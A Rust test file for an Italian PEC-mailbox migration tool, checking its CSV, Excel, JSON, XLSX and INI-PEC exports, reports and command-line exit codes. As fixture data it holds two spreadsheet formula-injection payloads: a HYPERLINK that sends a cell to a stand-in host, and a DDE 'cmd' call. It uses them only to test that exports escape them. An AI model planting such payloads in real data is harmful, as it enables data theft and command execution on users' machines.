//! Exports and the report (issue 7): every export format parsed back and
//! compared, formula escaping, the INI-PEC round trip through the importer,
//! `report --json` against known data, and the command line's exit codes.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use chrono::{DateTime, NaiveDate, TimeDelta, TimeZone, Utc};
use pecdesk::app::Settings;
use pecdesk::domain::contact::normalize_mobile;
use pecdesk::domain::{
    Category, MailboxState, Member, MigrationState, PasswordState, RecoveryContacts,
};
use pecdesk::export::inipec::{plan_file, write_file};
use pecdesk::export::{CSV_HEADER, ExportFormat, ExportOptions, export_entries};
use pecdesk::i18n::Lang;
use pecdesk::import::{Format, ImportOptions};
use pecdesk::report::Report;
use pecdesk::store::{IncomingRoster, RosterEntry, Store};
use serde_json::{Value, json};

const DOMAIN: &str = "pec.fofi.it";
const HYPERLINK: &str = "=HYPERLINK(\"http://x.example/?d=\"&A1,\"Apri\")";
const SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const ROSSI_MOBILE: &str = "+393471234567";
const HOSTILE_MOBILE: &str = "+393331112222";

/// The instant the known data is about: a winter day, Italy at UTC+1.
fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 10, 10, 0, 0).unwrap()
}

fn hours(h: i64) -> TimeDelta {
    TimeDelta::hours(h)
}

/// Six members with valid codici fiscali, renamed to known values: only
/// Rossi has every contact, and the second one is hostile.
fn members() -> Vec<Member> {
    let mut members = pecdesk::sample::generate_roster(6, 7, DOMAIN);
    let known = [
        ("Rossi", "Mario", "a@pec.fofi.it"),
        (HYPERLINK, SUM, "b@pec.fofi.it"),
        ("Bianchi", "Anna", "c@pec.fofi.it"),
        ("Verdi", "Luca", "d@pec.fofi.it"),
        ("Neri", "Paola", "e@pec.it"),
        ("Gialli", "Carlo", "f@pec.fofi.it"),
    ];
    for (i, (member, (cognome, nome, pec))) in members.iter_mut().zip(known).enumerate() {
        member.numero_iscrizione = format!("{}", 1001 + i);
        member.cognome = cognome.to_string();
        member.nome = nome.to_string();
        member.pec = pec.to_string();
        member.email_servizio = None;
        member.cellulare = None;
        member.provincia = None;
    }
    members[0].email_servizio = Some("mario@libero.it".into());
    members[0].cellulare = Some(ROSSI_MOBILE.into());
    members[0].provincia = Some("RM".into());
    members[1].cellulare = Some(HOSTILE_MOBILE.into());
    members[1].provincia = Some("-1".into());
    members[3].provincia = Some("MI".into());
    members
}

fn mailbox(address: &str, migration: MigrationState) -> MailboxState {
    MailboxState {
        address: address.to_string(),
        migration,
        migration_at: None,
        password: PasswordState::NotSet,
        link_sent_at: None,
        link_expires_at: None,
        recovery: RecoveryContacts::default(),
        last_login_at: None,
        must_change_password: false,
        updated_at: now() - hours(48),
    }
}

/// The provider's side: a, b, c and f have mailboxes, d has none, e's PEC is
/// elsewhere, and z is a mailbox with no member.
fn mailboxes() -> Vec<MailboxState> {
    let mut a = mailbox("a@pec.fofi.it", MigrationState::Completed);
    a.migration_at = Some(now() - hours(24));
    a.password = PasswordState::Set;
    a.recovery = RecoveryContacts {
        email_masked: Some("*****io@l*****.it".into()),
        mobile_masked: Some("+39*******567".into()),
        confirmed: true,
    };
    a.last_login_at = Some(now() - hours(2));
    let b = mailbox("b@pec.fofi.it", MigrationState::NotStarted);
    let mut c = mailbox("c@pec.fofi.it", MigrationState::FailedCredentials);
    c.migration_at = Some(now() - hours(30));
    c.password = PasswordState::ResetPending;
    c.link_sent_at = Some(now() - hours(25));
    c.link_expires_at = Some(now() - hours(1));
    c.recovery.email_masked = Some("*****na@g*****.com".into());
    let mut f = mailbox("f@pec.fofi.it", MigrationState::Completed);
    f.migration_at = Some(now() - hours(60));
    f.password = PasswordState::Set;
    f.recovery.mobile_masked = Some("+39*******890".into());
    let mut z = mailbox("z@pec.fofi.it", MigrationState::NotStarted);
    z.recovery.email_masked = Some("*****zz@t*****.it".into());
    vec![a, b, c, f, z]
}

struct Fixture {
    dir: tempfile::TempDir,
    db: PathBuf,
}

impl Fixture {
    fn store(&self) -> Store {
        Store::open(&self.db).unwrap()
    }

    fn entries(&self) -> Vec<RosterEntry> {
        self.store().roster_entries().unwrap()
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }
}

/// A store with the known roster (f has left the albo) and one sync.
fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("pecdesk.db");
    let mut store = Store::open(&db).unwrap();
    let members = members();
    let (in_albo, left) = members.split_at(5);
    let incoming = IncomingRoster {
        members: in_albo,
        left_albo: left,
        full_roster: true,
        ..IncomingRoster::default()
    };
    store
        .upsert_members(&incoming, "test", "albo.csv", now() - hours(72))
        .unwrap();
    store
        .apply_sync(
            &mailboxes(),
            "test",
            now() - hours(1),
            now() - hours(1) + TimeDelta::seconds(3),
        )
        .unwrap();
    Fixture { dir, db }
}

fn options(format: ExportFormat, states: &[Category]) -> ExportOptions {
    ExportOptions {
        format,
        states: states.to_vec(),
        pec_domain: DOMAIN.to_string(),
        now: now(),
    }
}

fn export(f: &Fixture, format: ExportFormat, states: &[Category], name: &str) -> (usize, Vec<u8>) {
    let path = f.path(name);
    let n = export_entries(&path, &f.entries(), &options(format, states)).unwrap();
    (n, std::fs::read(path).unwrap())
}

fn parse_csv(bytes: &[u8], delimiter: u8) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn strings(cells: &[&str]) -> Vec<String> {
    cells.iter().map(|c| c.to_string()).collect()
}

/// The known entries as the `csv` format writes them (ISO instants, UTC).
fn expected_csv_rows(cf: &[String]) -> Vec<Vec<String>> {
    vec![
        strings(&[
            "1001",
            "Rossi",
            "Mario",
            &cf[0],
            "a@pec.fofi.it",
            "mario@libero.it",
            "'+393471234567",
            "RM",
            "completata",
            "impostata",
            "",
            "e-mail *****io@l*****.it, cellulare +39*******567, confermati",
            "2026-11-10T08:00:00Z",
            "migrated",
        ]),
        strings(&[
            "1002",
            &format!("'{HYPERLINK}"),
            &format!("'{SUM}"),
            &cf[1],
            "b@pec.fofi.it",
            "",
            "'+393331112222",
            "'-1",
            "non avviata",
            "non impostata",
            "",
            "nessuno",
            "",
            "not_migrated, no_recovery_contact",
        ]),
        strings(&[
            "1003",
            "Bianchi",
            "Anna",
            &cf[2],
            "c@pec.fofi.it",
            "",
            "",
            "",
            "fallita: credenziali non valide",
            "link di recupero scaduto",
            "2026-11-10T09:00:00Z",
            "e-mail *****na@g*****.com",
            "",
            "failed_credentials, link_expired",
        ]),
        strings(&[
            "1004",
            "Verdi",
            "Luca",
            &cf[3],
            "d@pec.fofi.it",
            "",
            "",
            "MI",
            "",
            "",
            "",
            "",
            "",
            "no_mailbox",
        ]),
        strings(&[
            "1005",
            "Neri",
            "Paola",
            &cf[4],
            "e@pec.it",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "external_pec",
        ]),
        strings(&[
            "1006",
            "Gialli",
            "Carlo",
            &cf[5],
            "f@pec.fofi.it",
            "",
            "",
            "",
            "completata",
            "impostata",
            "",
            "cellulare +39*******890",
            "",
            "migrated, removed",
        ]),
        strings(&[
            "",
            "",
            "",
            "",
            "z@pec.fofi.it",
            "",
            "",
            "",
            "non avviata",
            "non impostata",
            "",
            "e-mail *****zz@t*****.it",
            "",
            "not_migrated, no_member",
        ]),
    ]
}

fn codici_fiscali() -> Vec<String> {
    members().into_iter().map(|m| m.codice_fiscale).collect()
}

#[cfg(unix)]
fn assert_private(path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "{}", path.display());
}

#[cfg(not(unix))]
fn assert_private(_: &Path) {}

#[test]
fn csv_export_parses_back_to_the_known_roster() {
    let f = fixture();
    let (n, bytes) = export(&f, ExportFormat::Csv, &[], "albo.csv");
    assert_eq!(n, 7);
    assert!(!bytes.starts_with(b"\xef\xbb\xbf"), "no BOM in plain csv");
    assert!(!bytes.windows(2).any(|w| w == b"\r\n"), "LF line ends");
    let rows = parse_csv(&bytes, b',');
    assert_eq!(rows[0], strings(&CSV_HEADER));
    assert_eq!(rows[1..], expected_csv_rows(&codici_fiscali()));
    assert_private(&f.path("albo.csv"));
}

#[test]
fn csv_excel_export_is_the_same_table_in_the_italian_excel_dialect() {
    let f = fixture();
    let (_, plain) = export(&f, ExportFormat::Csv, &[], "albo.csv");
    let (n, bytes) = export(&f, ExportFormat::CsvExcel, &[], "albo-excel.csv");
    assert_eq!(n, 7);
    let body = bytes.strip_prefix(b"\xef\xbb\xbf").expect("UTF-8 BOM");
    let text = std::str::from_utf8(body).unwrap();
    assert!(text.ends_with("\r\n"));
    assert_eq!(
        text.matches('\n').count(),
        text.matches("\r\n").count(),
        "CRLF only"
    );
    let excel = parse_csv(body, b';');
    let mut expected = parse_csv(&plain, b',');
    // Only the instants differ: dd/mm/yyyy HH:MM in Italian time (UTC+1 in November).
    expected[1][12] = "10/11/2026 09:00".to_string();
    expected[3][10] = "10/11/2026 10:00".to_string();
    assert_eq!(excel, expected);
    assert_private(&f.path("albo-excel.csv"));
}

#[test]
fn json_export_parses_back_with_the_state_codes() {
    let f = fixture();
    let (n, bytes) = export(&f, ExportFormat::Json, &[], "albo.json");
    assert_eq!(n, 7);
    let value: Value = serde_json::from_slice(&bytes).unwrap();
    let rows = value.as_array().unwrap();
    assert_eq!(rows.len(), 7);
    let cf = codici_fiscali();
    let rossi = &rows[0];
    assert_eq!(rossi["codice_fiscale"], cf[0]);
    assert_eq!(
        *rossi,
        json!({
            "member_id": rossi["member_id"],
            "numero_iscrizione": "1001",
            "cognome": "Rossi",
            "nome": "Mario",
            "codice_fiscale": cf[0],
            "pec": "a@pec.fofi.it",
            "email_servizio": "mario@libero.it",
            "cellulare": ROSSI_MOBILE,
            "provincia": "RM",
            "in_roster": true,
            "migration": "completed",
            "password": "set",
            "link_expires_at": null,
            "recovery": {
                "email_masked": "*****io@l*****.it",
                "mobile_masked": "+39*******567",
                "confirmed": true
            },
            "last_login_at": "2026-11-10T08:00:00Z",
            "states": ["migrated"]
        })
    );
    // JSON carries values exactly: no spreadsheet escaping.
    assert_eq!(rows[1]["cognome"], HYPERLINK);
    assert_eq!(rows[1]["nome"], SUM);
    assert_eq!(rows[2]["password"], "link_expired");
    assert_eq!(rows[2]["link_expires_at"], "2026-11-10T09:00:00Z");
    assert_eq!(rows[3]["migration"], Value::Null);
    assert_eq!(rows[5]["in_roster"], false);
    assert_eq!(rows[6]["cognome"], Value::Null);
    assert_eq!(rows[6]["member_id"], Value::Null);
    // The states are the CSV's, as codes of the --state vocabulary.
    let expected = expected_csv_rows(&cf);
    for (row, csv_row) in rows.iter().zip(&expected) {
        let states: Vec<&str> = row["states"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s.as_str().unwrap())
            .collect();
        assert_eq!(states.join(", "), csv_row[13]);
        assert!(states.iter().all(|s| Category::from_code(s).is_some()));
    }
    assert_private(&f.path("albo.json"));
}

#[test]
fn several_states_mean_any_of_them() {
    let f = fixture();
    let (n, bytes) = export(
        &f,
        ExportFormat::Csv,
        &[Category::NoMailbox, Category::NoMember],
        "chase.csv",
    );
    assert_eq!(n, 2);
    let rows = parse_csv(&bytes, b',');
    let pecs: Vec<&str> = rows[1..].iter().map(|r| r[4].as_str()).collect();
    assert_eq!(pecs, ["d@pec.fofi.it", "z@pec.fofi.it"]);
    let (n, _) = export(&f, ExportFormat::Json, &[Category::Failed2fa], "none.json");
    assert_eq!(n, 0);
    let (n, bytes) = export(
        &f,
        ExportFormat::Json,
        &[Category::Migrated],
        "migrated.json",
    );
    assert_eq!(n, 2);
    let value: Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(value[1]["states"], json!(["migrated", "removed"]));
}

/// What a spreadsheet does with a cell: a leading apostrophe marks text and
/// is not part of the value; otherwise a leading trigger makes a formula.
fn spreadsheet_reads(cell: &str) -> Result<&str, String> {
    match cell.strip_prefix('\'') {
        Some(text) => Ok(text),
        None if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) => {
            Err(format!("formula: {cell}"))
        }
        None => Ok(cell),
    }
}

#[test]
fn formula_cells_are_escaped_and_phone_numbers_still_read_as_phone_numbers() {
    let f = fixture();
    let formats = [
        (ExportFormat::Csv, b',', "x.csv"),
        (ExportFormat::CsvExcel, b';', "x-excel.csv"),
    ];
    for (format, delimiter, name) in formats {
        let (_, bytes) = export(&f, format, &[], name);
        let body = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(&bytes);
        let rows = parse_csv(body, delimiter);
        let cells: Vec<&str> = rows.iter().flatten().map(String::as_str).collect();
        for cell in &cells {
            assert!(spreadsheet_reads(cell).is_ok(), "{format:?}: {cell}");
        }
        // The hostile values are there, inert, and read back as written.
        let read: Vec<&str> = cells
            .iter()
            .map(|c| spreadsheet_reads(c).unwrap())
            .collect();
        assert!(read.contains(&HYPERLINK), "{format:?}");
        assert!(read.contains(&SUM), "{format:?}");
        assert!(
            cells.contains(&format!("'{HYPERLINK}").as_str()),
            "{format:?}"
        );
        assert!(cells.contains(&format!("'{SUM}").as_str()), "{format:?}");
    }
    for (format, delimiter, name) in &formats {
        let (_, bytes) = export(&f, *format, &[], name);
        let body = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(&bytes);
        let rows = parse_csv(body, *delimiter);
        let mobiles: Vec<&str> = rows[1..].iter().map(|r| r[6].as_str()).collect();
        assert_eq!(
            mobiles[..2],
            ["'+393471234567", "'+393331112222"],
            "{format:?}"
        );
        for (cell, stored) in mobiles[..2].iter().zip([ROSSI_MOBILE, HOSTILE_MOBILE]) {
            // Shown as text, the phone number with its +39, not 3,93E+11...
            let shown = spreadsheet_reads(cell).unwrap();
            assert_eq!(shown, stored);
            // ...and still a valid mobile number to dial or import.
            assert_eq!(normalize_mobile(shown).unwrap(), stored);
        }
    }
}

/// The first INI-PEC file (every position, `--all`): the registry's layout,
/// members in the albo only, the hostile member held back rather than altered.
#[test]
fn inipec_export_is_the_registry_layout() {
    let f = fixture();
    let mut store = f.store();
    let planned = plan_file(&store, true).unwrap();
    let held: Vec<&str> = planned.plan.held_back.iter().map(|h| h.field).collect();
    assert_eq!(held, ["Nome"], "{:?}", planned.plan.held_back);
    let out = f.path("inipec.csv");
    write_file(&mut store, &out, &planned, "test", now()).unwrap();
    let text = String::from_utf8(std::fs::read(&out).unwrap()).unwrap();
    assert!(!text.starts_with('\u{feff}'));
    assert!(text.ends_with("\r\n") && !text.contains("\"'"));
    let rows = parse_csv(text.as_bytes(), b';');
    assert_eq!(rows.len(), 4, "a, c, d, e: f left the albo before any file");
    let cf = codici_fiscali();
    let members = members();
    let iscrizione = members[0]
        .data_iscrizione
        .map(|d| d.format("%d/%m/%Y").to_string())
        .unwrap_or_default();
    assert_eq!(
        rows[0],
        strings(&[
            "a@pec.fofi.it",
            "Mario",
            "Rossi",
            "1001",
            &cf[0],
            "2",
            &iscrizione,
            ""
        ])
    );
    assert!(rows.iter().all(|r| r.len() == 8 && r[5] == "2"));
}

/// Stores the bundled sample roster, with its first 25 members out of the
/// albo (to round-trip "cancellato" too), after `keep` has shaped each member.
fn sample_store(dir: &Path, keep: impl Fn(&mut Member)) -> Store {
    let mut store = Store::open(&dir.join("pecdesk.db")).unwrap();
    let mut roster = pecdesk::import::parse_csv(
        pecdesk::cli::SAMPLE_ROSTER,
        pecdesk::cli::SAMPLE_ROSTER_NAME,
    )
    .unwrap()
    .members;
    roster.iter_mut().for_each(keep);
    let (left, members) = roster.split_at(25);
    let incoming = IncomingRoster {
        members,
        left_albo: left,
        full_roster: true,
        ..IncomingRoster::default()
    };
    store
        .upsert_members(&incoming, "test", "albo.csv", now())
        .unwrap();
    store
}

/// Export as INI-PEC (every position), import that file back (the importer
/// recognises the layout by itself, as a full roster): the roster does not
/// change, and there is nothing left to send.
fn assert_inipec_round_trip(dir: &Path, mut store: Store) {
    let before = store.roster_entries().unwrap();
    let out = dir.join("inipec.txt");
    let planned = plan_file(&store, true).unwrap();
    write_file(&mut store, &out, &planned, "test", now()).unwrap();
    let in_albo = before.iter().filter(|e| e.in_roster).count();
    assert_eq!(
        planned.plan.rows.len(),
        in_albo,
        "those who left were never sent"
    );

    let parsed = pecdesk::import::read_path(&out, &ImportOptions::default()).unwrap();
    assert_eq!(parsed.layout.kind, pecdesk::import::SourceKind::IniPec);
    assert!(parsed.rejects.is_empty(), "{:?}", parsed.rejects.first());
    assert_eq!(parsed.members.len(), in_albo);
    assert!(parsed.left_albo.is_empty());
    let plan = pecdesk::import::preview(&store, &parsed, &ImportOptions::default()).unwrap();
    assert_eq!(
        (plan.counts.new, plan.counts.updated, plan.counts.removed),
        (0, 0, 0),
        "{:?}",
        plan.changes.first()
    );
    let options_auto = ImportOptions {
        format: Format::Auto,
        ..ImportOptions::default()
    };
    let summary =
        pecdesk::import::import(&mut store, parsed, &options_auto, "test", now()).unwrap();
    assert_eq!(
        (summary.stored.unchanged, summary.stored.removed),
        (in_albo, 0),
        "those already out stay out, on the day they left"
    );
    assert_eq!(store.roster_entries().unwrap(), before);
    assert!(plan_file(&store, false).unwrap().plan.is_empty());
}

/// A roster holding what the INI-PEC layout carries (as after an INI-PEC import).
#[test]
fn inipec_round_trip_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let store = sample_store(dir.path(), |m| {
        m.data_nascita = None;
        m.email_servizio = None;
        m.cellulare = None;
        m.provincia = None;
    });
    assert_inipec_round_trip(dir.path(), store);
}

/// A full roster: the layout has no data di nascita, e-mail, cellulare or
/// provincia, and importing it back must keep them.
#[test]

fn inipec_round_trip_keeps_what_the_layout_does_not_carry() {
    let dir = tempfile::tempdir().unwrap();
    let store = sample_store(dir.path(), |_| {});
    assert_inipec_round_trip(dir.path(), store);
}

fn settings(cutover: Option<NaiveDate>) -> Settings {
    Settings {
        lang: Lang::It,
        pec_domain: DOMAIN.to_string(),
        ordine: "Ordine dei Farmacisti di Prova".to_string(),
        cutover,
    }
}

#[test]
fn report_json_against_known_data() {
    let f = fixture();
    let store = f.store();
    let cutover = NaiveDate::from_ymd_opt(2026, 12, 10);
    let report = Report::from_store(&store, &settings(cutover), now()).unwrap();
    let value: Value = serde_json::from_str(&report.to_json()).unwrap();
    let pace = value["pace"]["per_day"].as_f64().unwrap();
    // Two migrations (a yesterday, f the day before) over the last 7 days.
    assert!((pace - 2.0 / 7.0).abs() < 1e-9, "{pace}");
    assert_eq!(
        value,
        json!({
            "generated_at": "2026-11-10T10:00:00Z",
            "ordine": "Ordine dei Farmacisti di Prova",
            "pec_domain": "pec.fofi.it",
            "members_in_roster": 5,
            "mailboxes": 5,
            "states": {
                "not_migrated": 2,
                "migrated": 2,
                "failed_credentials": 1,
                "failed_2fa": 0,
                "link_pending": 0,
                "link_expired": 1,
                "no_recovery_contact": 1,
                "pec_undelivered": 0,
                "removed": 1,
                "external_pec": 1,
                "no_mailbox": 1,
                "no_member": 1,
                "aruba_no_contact": 0,
                "aruba_contact_differs": 0,
                "aruba_suspended": 0,
                "aruba_no_mailbox": 0
            },
            "migrated": 2,
            "migrated_percent": 40.0,
            "cutover": "2026-12-10",
            "days_to_cutover": 30,
            "pace": {
                "days": 7,
                "per_day": pace,
                "remaining": 3,
                "needed_per_day": 0.1,
                "on_track": true
            },
            "to_chase": {
                "not_migrated": 2,
                "failed_credentials": 1,
                "failed_2fa": 0,
                "link_expired": 1,
                "no_recovery_contact": 1,
                "no_mailbox": 1,
                "no_member": 1
            },
            "last_sync": {
                "started_at": "2026-11-10T09:00:00Z",
                "finished_at": "2026-11-10T09:00:03Z",
                "ok": true,
                "mailboxes": 5,
                "changes": 0,
                "error": null
            }
        })
    );
    // The counts are the console's own.
    let mut state = pecdesk::app::State::new(settings(cutover), now());
    let snapshot = pecdesk::app::Snapshot {
        entries: f.entries(),
        last_sync: store.last_sync().unwrap(),
    };
    pecdesk::app::update(&mut state, pecdesk::app::Action::Loaded(Ok(snapshot)));
    for &c in Category::ALL {
        assert_eq!(report.states.get(c), state.count(c), "{}", c.code());
    }
}

#[test]
fn report_text_in_italian() {
    let f = fixture();
    let report = Report::from_store(&f.store(), &settings(None), now()).unwrap();
    let text = report.to_text(Lang::It);
    for expected in [
        "Caselle migrate: 2 di 5 caselle (40,0%)",
        "data del passaggio non impostata",
        "ritmo (ultimi 7 giorni): 0,3 al giorno",
        "  not_migrated               2  migrazione non avviata",
        "Ultima sincronizzazione: 10/11/2026 10:00, riuscita (5 caselle, 0 cambiamenti)",
    ] {
        assert!(text.contains(expected), "{expected:?} in\n{text}");
    }
    let value: Value = serde_json::from_str(&report.to_json()).unwrap();
    assert_eq!(value["days_to_cutover"], Value::Null);
    assert_eq!(value["pace"]["on_track"], Value::Null);
    assert_eq!(value["pace"]["remaining"], 3);
}

// The command line, through the built binary.

fn pecdesk(dir: &Path, args: &[&str]) -> Output {
    let config = dir.join("config.toml");
    if !config.exists() {
        std::fs::write(&config, "cutover = \"2030-01-31\"\n").unwrap();
    }
    let mut command = Command::new(env!("CARGO_BIN_EXE_pecdesk"));
    command.arg("--config").arg(&config).args(args);
    for (key, _) in std::env::vars() {
        if key.starts_with("PECDESK_") {
            command.env_remove(key);
        }
    }
    command.output().unwrap()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[test]
fn cli_export_and_report_json() {
    let f = fixture();
    let db = f.db.to_str().unwrap().to_string();
    let out = f.path("migrati.csv");
    let output = pecdesk(
        f.dir.path(),
        &[
            "--db",
            &db,
            "export",
            "--out",
            out.to_str().unwrap(),
            "--state",
            "migrated",
            "--state",
            "no_member",
            "--format",
            "csv-excel",
        ],
    );
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(String::from_utf8_lossy(&output.stdout).contains("migrati.csv"));
    let bytes = std::fs::read(&out).unwrap();
    let rows = parse_csv(bytes.strip_prefix(b"\xef\xbb\xbf").unwrap(), b';');
    let pecs: Vec<&str> = rows[1..].iter().map(|r| r[4].as_str()).collect();
    assert_eq!(pecs, ["a@pec.fofi.it", "f@pec.fofi.it", "z@pec.fofi.it"]);
    assert_private(&out);

    let output = pecdesk(f.dir.path(), &["--db", &db, "report", "--json"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let value: Value = serde_json::from_slice(&output.stdout).unwrap();
    // Figures that do not move with the clock.
    assert_eq!(value["states"]["migrated"], 2);
    assert_eq!(value["states"]["no_mailbox"], 1);
    assert_eq!(value["states"]["no_member"], 1);
    assert_eq!(value["migrated_percent"], 40.0);
    assert_eq!(value["cutover"], "2030-01-31");
    let codes: Vec<&String> = value["states"].as_object().unwrap().keys().collect();
    // Every state, those known from PEC receipts included.
    assert_eq!(codes.len(), Category::ALL.len());
    assert_eq!(value["states"]["pec_undelivered"], 0);
    assert!(codes.iter().all(|c| Category::from_code(c).is_some()));

    let output = pecdesk(f.dir.path(), &["--db", &db, "report"]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(String::from_utf8_lossy(&output.stdout).contains("Caselle migrate: 2 di 5"));
}

#[test]
fn cli_exit_codes_and_help() {
    let f = fixture();
    let db = f.db.to_str().unwrap().to_string();
    let out = f.path("x.csv");
    let out = out.to_str().unwrap();

    let output = pecdesk(
        f.dir.path(),
        &["--db", &db, "export", "--out", out, "--state", "migrati"],
    );
    assert_eq!(output.status.code(), Some(2));
    let message = stderr(&output);
    assert!(
        message.contains("migrati") && message.contains("not_migrated"),
        "{message}"
    );
    assert!(!Path::new(out).exists());

    let output = pecdesk(
        f.dir.path(),
        &["--db", &db, "export", "--out", out, "--format", "xls"],
    );
    assert_eq!(output.status.code(), Some(2));

    let missing = f.path("nessuno.db");
    let output = pecdesk(f.dir.path(), &["--db", missing.to_str().unwrap(), "report"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("nessuno.db"),
        "{}",
        stderr(&output)
    );
    assert!(!missing.exists(), "a report does not create a store");

    let unwritable = f.path("cartella-inesistente").join("x.csv");
    let output = pecdesk(
        f.dir.path(),
        &["--db", &db, "export", "--out", unwritable.to_str().unwrap()],
    );
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains("x.csv"), "{}", stderr(&output));

    let output = pecdesk(f.dir.path(), &["--help"]);
    assert_eq!(output.status.code(), Some(0));
    let help = String::from_utf8_lossy(&output.stdout);
    for line in [
        "0  fatto",
        "1  fatto, ma con errori",
        "2  errore d'uso",
        "3  gestore non raggiungibile",
    ] {
        assert!(help.contains(line), "{line:?} in\n{help}");
    }
    let output = pecdesk(f.dir.path(), &["export", "--help"]);
    let help = String::from_utf8_lossy(&output.stdout);
    for &state in Category::ALL {
        assert!(help.contains(state.code()), "{} in\n{help}", state.code());
    }
    assert!(
        help.contains("csv-excel") && help.contains("inipec"),
        "{help}"
    );
}

// Workbooks (issue 12): written with rust_xlsxwriter, read back with calamine.

fn read_sheet(path: &Path, sheet: &str) -> (Vec<Vec<calamine::Data>>, Vec<Vec<String>>) {
    use calamine::Reader;
    let mut workbook: calamine::Xlsx<_> = calamine::open_workbook(path).unwrap();
    let range = workbook.worksheet_range(sheet).unwrap();
    let formulas = workbook.worksheet_formula(sheet).unwrap();
    (
        range.rows().map(<[calamine::Data]>::to_vec).collect(),
        formulas.rows().map(<[String]>::to_vec).collect(),
    )
}

fn sheet_names(path: &Path) -> Vec<String> {
    use calamine::Reader;
    let workbook: calamine::Xlsx<_> = calamine::open_workbook(path).unwrap();
    workbook.sheet_names()
}

/// The CSV cell without the apostrophe the CSV adds before formula triggers:
/// what a workbook's text cell holds.
fn unescaped(cell: &str) -> &str {
    cell.strip_prefix('\'')
        .filter(|rest| rest.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .unwrap_or(cell)
}

/// Each cell of `rows` against the CSV export's rows: text as text, instants
/// as real dates in Italian time, empty as empty.
fn assert_cells_match_csv(rows: &[Vec<calamine::Data>], csv_rows: &[Vec<String>]) {
    use calamine::{Data, DataType};
    assert_eq!(rows.len(), csv_rows.len());
    for (r, (row, expected)) in rows.iter().zip(csv_rows).enumerate() {
        for (c, (cell, want)) in row.iter().zip(expected).enumerate() {
            let at = format!("row {r} column {c}: {cell:?} vs {want:?}");
            if want.is_empty() {
                assert_eq!(*cell, Data::Empty, "{at}");
            } else if c == 10 || c == 12 {
                assert!(cell.is_datetime(), "{at}");
                let instant = DateTime::parse_from_rfc3339(want).unwrap().to_utc();
                assert_eq!(
                    cell.as_datetime(),
                    Some(pecdesk::i18n::italian_time(instant)),
                    "{at}"
                );
            } else {
                assert_eq!(*cell, Data::String(unescaped(want).to_string()), "{at}");
            }
        }
    }
}

#[test]
fn xlsx_export_reads_back_cell_by_cell_with_its_types() {
    let f = fixture();
    let path = f.path("albo.xlsx");
    let n = export_entries(&path, &f.entries(), &options(ExportFormat::Xlsx, &[])).unwrap();
    assert_eq!(n, 7);
    assert_private(&path);
    assert_eq!(sheet_names(&path), ["Esportazione"]);
    let (rows, formulas) = read_sheet(&path, "Esportazione");
    let header: Vec<calamine::Data> = CSV_HEADER
        .iter()
        .map(|h| calamine::Data::String(h.to_string()))
        .collect();
    assert_eq!(rows[0], header);
    assert_cells_match_csv(&rows[1..], &expected_csv_rows(&codici_fiscali()));
    // The hostile name and the mobiles are text, never formulas or numbers.
    assert_eq!(rows[2][1], calamine::Data::String(HYPERLINK.into()));
    assert_eq!(rows[1][6], calamine::Data::String(ROSSI_MOBILE.into()));
    assert!(
        formulas.iter().flatten().all(String::is_empty),
        "no formula anywhere: {formulas:?}"
    );
    // Bold header frozen, with an autofilter: in the sheet's XML.
    let xml = sheet_xml(&path, "xl/worksheets/sheet1.xml");
    assert!(
        xml.contains(r#"<pane ySplit="1" topLeftCell="A2""#),
        "{xml}"
    );
    assert!(xml.contains(r#"<autoFilter ref="A1:N8"/>"#), "{xml}");
    assert!(xml.contains("<col "), "column widths set");
    let styles = sheet_xml(&path, "xl/styles.xml");
    assert!(styles.contains("<b/>"), "a bold font");
    assert!(styles.contains(r#"formatCode="dd/mm/yyyy""#), "{styles}");
}

/// One part of an `.xlsx` (a zip) as text, through `unzip -p` (CI installs it).
fn sheet_xml(path: &Path, part: &str) -> String {
    let output = Command::new("unzip").arg("-p").arg(path).arg(part).output();
    match output {
        Ok(out) if out.status.success() => String::from_utf8(out.stdout).unwrap(),
        other => panic!("unzip -p {part}: {other:?} (unzip must be installed)"),
    }
}

#[test]
fn report_workbook_has_a_summary_and_a_sheet_per_list_to_chase() {
    let f = fixture();
    let path = f.path("riepilogo.xlsx");
    let settings = settings(NaiveDate::from_ymd_opt(2026, 12, 31));
    pecdesk::export::xlsx::write_report(&f.store(), &settings, &path, now()).unwrap();
    assert_private(&path);
    assert_eq!(
        sheet_names(&path),
        [
            "Riepilogo",
            "Non avviata",
            "Credenziali non valide",
            "Doppio fattore",
            "Link scaduto",
            "Senza contatti di recupero",
            "Senza casella",
            "Casella senza iscritto",
        ]
    );
    let (summary, _) = read_sheet(&path, "Riepilogo");
    let count_of = |label: &str| {
        summary
            .iter()
            .find(|row| row[0] == calamine::Data::String(label.into()))
            .map(|row| row[2].clone())
    };
    let report = Report::from_store(&f.store(), &settings, now()).unwrap();
    for (state, count) in &report.states.0 {
        let label = pecdesk::report::describe_state(*state).0;
        assert_eq!(
            count_of(label),
            Some(calamine::Data::Float(*count as f64)),
            "{label}"
        );
    }
    // Each list's sheet holds exactly the CSV export of that state.
    for (state, sheet) in [
        (Category::NotMigrated, "Non avviata"),
        (Category::LinkExpired, "Link scaduto"),
        (Category::NoMailbox, "Senza casella"),
        (Category::NoMember, "Casella senza iscritto"),
